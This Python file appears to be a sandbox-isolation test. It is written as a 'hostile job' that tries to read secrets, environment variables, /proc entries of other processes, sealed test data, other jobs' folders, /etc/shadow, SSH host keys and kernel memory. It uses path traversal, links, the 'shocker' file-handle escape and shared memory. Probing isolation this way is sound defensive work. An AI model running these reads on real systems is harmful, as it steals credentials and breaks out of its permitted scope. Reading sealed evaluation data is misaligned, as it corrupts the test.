"""A hostile job that reads what is not its own: secrets, other jobs, the sealed test split."""

# ruff: noqa: PTH112, PTH115, PTH123, PTH208

from __future__ import annotations

import ctypes
import os
import re
import struct
from pathlib import Path

from probing import SECRET, TARGETS, attempt, call, leaked, main, read, stolen


@attempt
def memory_inherited_from_the_zygote() -> str | None:
    """Whatever the parent read, allocated and freed before the fork is in our copy of its memory."""
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
        for line in maps:
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) r\S* \S+ \S+ (\d+)\s*(\S*)", line)
            if found is None or found[4].startswith(("/", "[v")):
                continue
            begin, end = int(found[1], 16), int(found[2], 16)
            memory.seek(begin)
            while begin < end:
                try:
                    block = memory.read(min(1 << 24, end - begin))
                except OSError:
                    break
                if secret := leaked(block):
                    return f"{found[4] or 'heap'}: {secret}"
                begin += len(block) or end
    return None


@attempt
def home_folder_by_its_path() -> str | None:
    return stolen(*(Path(TARGETS["home"]) / name for name in TARGETS["home_files"]))


@attempt
def home_folder_by_environment() -> str | None:
    home = Path(os.environ.get("HOME", "/nonexistent"))
    return stolen(*(home / name for name in TARGETS["home_files"]))


@attempt
def home_folders_of_the_accounts() -> str | None:
    for line in read("/etc/passwd").decode().splitlines():
        home = Path(line.split(":")[5])
        if home != Path("/") and home.is_dir() and (found := [n for n in os.listdir(home) if n.startswith(".")]):
            return f"{home}: {found}"
    return None


@attempt
def hugging_face_token() -> str | None:
    from huggingface_hub import get_token

    token = get_token()
    return leaked((token or "").encode())


@attempt
def secrets_in_the_own_environment() -> str | None:
    return leaked(repr(dict(os.environ)).encode())


@attempt
def secrets_in_the_environment_at_the_start() -> str | None:
    return leaked(read("/proc/self/environ"))


@attempt
def environments_of_all_processes() -> str | None:
    return stolen(*Path("/proc").glob("[0-9]*/environ"), *(f"/proc/{pid}/environ" for pid in TARGETS["pids"]))


@attempt
def command_lines_of_all_processes() -> str | None:
    return stolen(*Path("/proc").glob("[0-9]*/cmdline"), *(f"/proc/{pid}/cmdline" for pid in TARGETS["pids"]))


@attempt
def descriptors_inherited_from_the_zygote() -> str | None:
    """Only its own output is open to it: no pipe or socket of the zygote's, no folder."""
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if target.startswith("socket:"):
            return f"descriptor {name} is {target}"
        if int(name) > 2 and os.path.isdir(f"/proc/self/fd/{name}") and (out := stolen_from(f"/proc/self/fd/{name}")):
            return out
    return None


def stolen_from(folder: str) -> str | None:
    return stolen(*(f"{folder}/{'../' * up}{path.lstrip('/')}" for up in range(12) for path in TARGETS["sealed"]))


@attempt
def bus_url_and_token_in_the_run_folder() -> str | None:
    return stolen(*TARGETS["bus_files"])


@attempt
def sealed_test_split() -> str | None:
    return stolen(*TARGETS["sealed"])


@attempt
def test_split_in_the_folder_of_the_task() -> str | None:
    return stolen(TARGETS["task_test"])


@attempt
def checkpoints_of_the_state_machine() -> str | None:
    return stolen(TARGETS["checkpoints"])


@attempt
def ledger_of_the_run() -> str | None:
    return stolen(TARGETS["ledger"])


@attempt
def folder_of_another_job() -> str | None:
    return stolen(*TARGETS["other_job"])


@attempt
def list_of_other_jobs() -> str | None:
    names = set(os.listdir(TARGETS["jobs"])) - {Path.cwd().name}
    return f"sees {sorted(names)}" if names else None


@attempt
def dots_through_what_it_may_read() -> str | None:
    places = (".", *TARGETS["reads"])
    names = ("sealed/test.jsonl", "checkpoints.sqlite", f"{Path(TARGETS['run']).name}/sealed/test.jsonl")
    return stolen(*(f"{place}/{'../' * up}{name}" for place in places for up in range(1, 6) for name in names))


@attempt
def neighbours_of_what_it_may_read() -> str | None:
    """It was given two files of the run's data, not the folder that they lie in."""
    return stolen(TARGETS["unread_data"])


@attempt
def links_to_the_sealed_test_split() -> str | None:
    for number, path in enumerate(TARGETS["sealed"]):
        Path(f"soft{number}").symlink_to(path)
        if found := stolen(f"soft{number}"):
            return found
        os.link(path, f"hard{number}")
    return stolen(*Path().glob("hard*"))


@attempt
def roots_and_folders_of_all_processes() -> str | None:
    processes = {*TARGETS["pids"], *(int(p.name) for p in Path("/proc").glob("[0-9]*")), "self", 1}
    for process in processes:
        for door in ("root", "cwd"):
            for path in (*TARGETS["sealed"], f"{TARGETS['home']}/{TARGETS['home_files'][0]}"):
                if found := stolen(
                    f"/proc/{process}/{door}{path}", f"/proc/{process}/{door}/../../../../../../..{path}"
                ):
                    return found
    return None


@attempt
def descriptors_of_all_processes() -> str | None:
    for path in Path("/proc").glob("[0-9]*/fd/*"):
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if path.parent.parent.name != str(os.getpid()) and any(target == sealed for sealed in TARGETS["sealed"]):
            return f"{path} is {target}"
    return None


@attempt
def file_handle_of_the_root() -> str | None:
    """The "shocker" escape: a handle made by hand opens any inode of the file system, whatever is mounted where."""
    handle = struct.pack("iI8s", 8, 1, struct.pack("II", 2, 0))
    mount = os.open(".", os.O_RDONLY)
    root = call(304, mount, ctypes.c_char_p(handle), os.O_RDONLY)  # open_by_handle_at
    return f"opened inode 2: {os.listdir(root)[:5]}"


@attempt
def raw_disk_and_memory_devices() -> str | None:
    for name in ("mem", "kmem", "port", "kmsg", *(n for n in os.listdir("/sys/block"))):
        try:
            descriptor = os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        os.read(descriptor, 512)
        return f"read /dev/{name}"
    return None


@attempt
def kernel_log() -> str | None:
    size = call(103, 10, None, 0)  # syslog: SYSLOG_ACTION_SIZE_BUFFER
    room = ctypes.create_string_buffer(min(size, 1 << 20))
    return f"read {call(103, 3, room, len(room))} bytes of the kernel's log"


@attempt
def shared_memory_of_others() -> str | None:
    """POSIX shared memory is files; that of System V is found by its number."""
    if found := stolen(*Path("/dev/shm").glob("*")):
        return found
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(TARGETS["shm_key"], 0, 0)
    if number < 0:
        return None
    place = libc.shmat(number, None, 0o10000)
    return leaked(ctypes.string_at(place, 64)) if place not in (None, ctypes.c_void_p(-1).value) else None


@attempt
def keys_of_the_session() -> str | None:
    room = ctypes.create_string_buffer(4096)
    found = call(
        250, 10, -3, ctypes.c_char_p(b"user"), ctypes.c_char_p(TARGETS["key"].encode()), 0
    )  # keyctl: by search
    return leaked(room.raw[: call(250, 11, found, room, len(room))])


@attempt
def temporary_files_of_others() -> str | None:
    return stolen(*(path for place in ("/tmp", "/var/tmp") for path in Path(place).glob("*") if path.is_file()))


@attempt
def mail_cron_and_accounts() -> str | None:
    for path in ("/etc/shadow", "/etc/gshadow", "/var/spool/cron/crontabs/root", "/etc/ssh/ssh_host_ed25519_key"):
        try:
            return f"{path}: {len(read(path))} bytes"
        except OSError:
            continue
    return None


assert SECRET is not None
if __name__ == "__main__":
    main()
